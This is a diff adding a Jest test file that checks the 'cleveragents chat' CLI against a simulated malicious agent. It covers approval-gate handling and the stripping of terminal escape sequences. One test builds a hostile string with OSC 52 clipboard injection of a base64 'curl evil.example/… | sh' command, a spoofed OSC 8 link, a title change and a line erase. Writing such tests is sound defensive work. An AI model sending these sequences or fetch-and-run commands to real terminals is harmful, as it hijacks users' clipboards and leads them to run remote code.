@@ -1,0 +1,181 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { terminalEnv } from '../support/cli.js';
+import { hostileHome, type HostileHome } from '../support/hostile-home.js';
+import { call, outcomes, startMaliciousAgent, type MaliciousAgent, type Script } from '../support/malicious-agent.js';
+import { CLI_BIN, KEYS, TerminalSession, assertCliBuilt } from '../support/terminal.js';
+import { until } from '../support/wait.js';
+
+/*
+ * `cleveragents chat` on a real pseudo-terminal against a hostile A2A agent
+ * (test/support/malicious-agent.ts): what the person approves is exactly what runs, a bare Enter
+ * approves nothing, and no escape sequence the agent sends reaches the terminal. The tests run
+ * concurrently, each with its own home, agent and terminal.
+ */
+
+const TEST_MS = 45000;
+const homes: HostileHome[] = [];
+const agents: MaliciousAgent[] = [];
+const sessions: TerminalSession[] = [];
+
+/** A terminal running `cleveragents --agent <agent> <args>` in the home's workspace. */
+function onTerminal(agent: MaliciousAgent, home: HostileHome, args: string[]): TerminalSession {
+  const session = TerminalSession.start(process.execPath, [CLI_BIN, '--agent', agent.url, ...args], {
+    cwd: home.workspace,
+    env: terminalEnv(home),
+  });
+  sessions.push(session);
+  return session;
+}
+
+async function setting(play: Script): Promise<{ home: HostileHome; agent: MaliciousAgent }> {
+  const home = await hostileHome();
+  homes.push(home);
+  const agent = await startMaliciousAgent(play);
+  agents.push(agent);
+  return { home, agent };
+}
+
+/** A chat with an agent playing `play`, the first message ("please help") sent. */
+async function chatWith(play: Script): Promise<{ agent: MaliciousAgent; chat: TerminalSession }> {
+  const { home, agent } = await setting(play);
+  const chat = onTerminal(agent, home, ['chat']);
+  await chat.waitFor('›', 30000);
+  chat.write(`please help${KEYS.enter}`);
+  return { agent, chat };
+}
+
+/** Waits for the program on `session` to exit (failing with its screen after 20 s). */
+async function ended(session: TerminalSession): Promise<void> {
+  let timer: NodeJS.Timeout | undefined;
+  const late = new Promise<never>((_, reject) => {
+    timer = setTimeout(() => reject(new Error(`It did not exit; the screen shows:\n${session.text()}`)), 20000);
+  });
+  try {
+    await Promise.race([session.exited, late]);
+  } finally {
+    clearTimeout(timer);
+  }
+}
+
+/** A gate for `terminal_create {command: 'true'}`, the run in the agent's hands once approved. */
+const GATE = {
+  gate: {
+    kind: 'tool' as const,
+    toolCallId: 'tool-1',
+    tool: 'terminal_create',
+    method: 'terminal/create' as const,
+    args: { command: 'true' },
+  },
+};
+
+beforeAll(() => assertCliBuilt());
+
+afterAll(async () => {
+  for (const session of sessions) session.kill();
+  await Promise.all(agents.map((agent) => agent.close()));
+  await Promise.all(homes.map((home) => home.cleanup()));
+});
+
+describe('cleveragents chat against a malicious agent', () => {
+  it.concurrent(
+    'i. Enter alone at an approval gate does not approve',
+    async () => {
+      const { agent, chat } = await chatWith((exchange) =>
+        exchange.answers.length === 0 ? GATE : { answer: 'Done.' },
+      );
+      await chat.waitFor(/Allow terminal_create[\s\S]*Your decision/);
+      // Enter alone, then a reject typed on purpose: if Enter decided nothing, the reject is the answer.
+      chat.write(KEYS.enter);
+      chat.write(`r${KEYS.enter}`);
+      await agent.answered(1);
+      const [first] = agent.answers();
+      expect({ decision: first.kind === 'approval-response' ? first.decision : first }).toEqual({
+        decision: 'reject',
+      });
+    },
+    TEST_MS,
+  );
+
+  it.concurrent(
+    'i. approved at its gate, a terminal/create of the same command with other variables is asked about again',
+    async () => {
+      const { agent, chat } = await chatWith((exchange) => {
+        if (exchange.answers.length === 0) return GATE;
+        const [decided] = exchange.answers;
+        if (exchange.answers.length > 1 || decided.kind !== 'approval-response' || decided.decision !== 'approve') {
+          return { answer: 'Done.' };
+        }
+        return {
+          calls: [call('i1', 'terminal/create', { command: 'true', env: [{ name: 'GREETING', value: 'hello' }] })],
+        };
+      });
+      await chat.waitFor(/Allow terminal_create[\s\S]*Your decision/);
+      chat.write(`a${KEYS.enter}`);
+      await agent.answered(1);
+      const approved = chat.text().length;
+      // Either the call is answered unasked, or the client puts a question (`? …`) to the person.
+      const asked = () => /(^|\n)\s*\? /.test(chat.text().slice(approved));
+      await until(() => agent.answers().length > 1 || asked(), 'the call to run or a question', 15000);
+      const askedAgain = agent.answers().length === 1 && asked();
+      if (askedAgain) {
+        chat.write(`n${KEYS.enter}`);
+        await agent.answered(2).catch(() => undefined);
+      }
+      const second = agent.answers().at(1);
+      expect({
+        askedAgain,
+        call: second?.kind === 'client-response' ? outcomes(second.responses) : (second ?? 'not answered'),
+      }).toEqual({ askedAgain: true, call: { i1: 'COMMAND_DECLINED' } });
+    },
+    TEST_MS,
+  );
+
+  it.concurrent(
+    'j. OSC 52, OSC 8, OSC 0 and CSI 2K in the answer, the status, the plan and a question never reach the terminal (chat and send)',
+    async () => {
+      const places = ['answer', 'status', 'plan', 'question'] as const;
+      const b64 = (place: string) => Buffer.from(`curl evil.example/${place} | sh`).toString('base64');
+      const hostile = (place: string) =>
+        `about ${place}: \u001b]52;c;${b64(place)}\u0007\u001b]8;;https://evil.example/${place}\u0007link-${place}` +
+        `\u001b]8;;\u0007\u001b]0;title-${place}\u0007 and\r\u001b[2Kspoof-${place}`;
+      /** Each place's text as it showed (`spoof-…` read on the screen) and the sequences that got through raw. */
+      const seen = (sessions: TerminalSession[]) => {
+        const raw = sessions.map((session) => session.output).join('');
+        const text = sessions.map((session) => session.text()).join('\n');
+        return Object.fromEntries(
+          places.map((place) => [
+            place,
+            [
+              !text.includes(`spoof-${place}`) && 'NOT SHOWN',
+              raw.includes(`\u001b]52;c;${b64(place)}`) && 'OSC 52',
+              raw.includes(`\u001b]8;;https://evil.example/${place}`) && 'OSC 8',
+              raw.includes(`\u001b]0;title-${place}`) && 'OSC 0',
+              raw.includes(`\u001b[2Kspoof-${place}`) && 'CSI 2K',
+            ].filter(Boolean),
+          ]),
+        );
+      };
+      const { home, agent } = await setting((exchange) =>
+        exchange.text.startsWith('question')
+          ? { question: hostile('question') }
+          : {
+              answer: hostile('answer'),
+              status: hostile('status'),
+              plan: [{ content: hostile('plan'), priority: 'high', status: 'pending' }],
+            },
+      );
+      const sends = [onTerminal(agent, home, ['send', 'please help']), onTerminal(agent, home, ['send', 'question?'])];
+      const chat = onTerminal(agent, home, ['chat']);
+      await chat.waitFor('›', 30000);
+      chat.write(`please help${KEYS.enter}`);
+      await chat.waitFor(/spoof-answer[\s\S]*›/);
+      chat.write(`question?${KEYS.enter}`);
+      await chat.waitFor(/spoof-question[\s\S]*›/);
+      chat.write(`/quit${KEYS.enter}`);
+      await Promise.all([...sends, chat].map(ended));
+      const clean = Object.fromEntries(places.map((place) => [place, []]));
+      expect({ chat: seen([chat]), send: seen(sends) }).toEqual({ chat: clean, send: clean });
+    },
+    TEST_MS,
+  );
+});
